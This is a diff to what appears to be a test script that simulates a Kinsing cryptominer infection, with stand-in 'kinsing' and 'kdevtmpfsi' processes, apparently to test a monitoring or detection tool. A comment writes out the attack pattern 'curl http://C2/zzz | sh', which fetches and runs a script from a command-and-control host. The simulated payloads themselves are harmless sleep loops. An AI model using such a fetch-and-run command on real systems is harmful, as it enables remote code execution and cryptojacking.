@@ -16,7 +16,8 @@ attack_up patch.json
 
 start listen 3333 && pool=$PID
 # Through the hole in the server: a script is fetched and run, as `curl http://C2/zzz | sh` leaves it.
-sh_start 'printf "#!/bin/sh\nexec sleep 1000\n" >/tmp/zzz; exec 3>&-; exec sh </tmp/zzz' && fetched=$PID
+sh_start 'printf "while :; do sleep 100; done\n" >/tmp/zzz
+	cat /tmp/zzz | (exec 3>&-; exec sh) & echo child $! >&3; exec 3>&-; wait' && fetched=$(said child)
 start run /tmp/kinsing connect 3333 && kinsing=$PID
 do_sh 'rm /tmp/kinsing'
 start run /tmp/kdevtmpfsi connect 3333 burn && miner=$PID
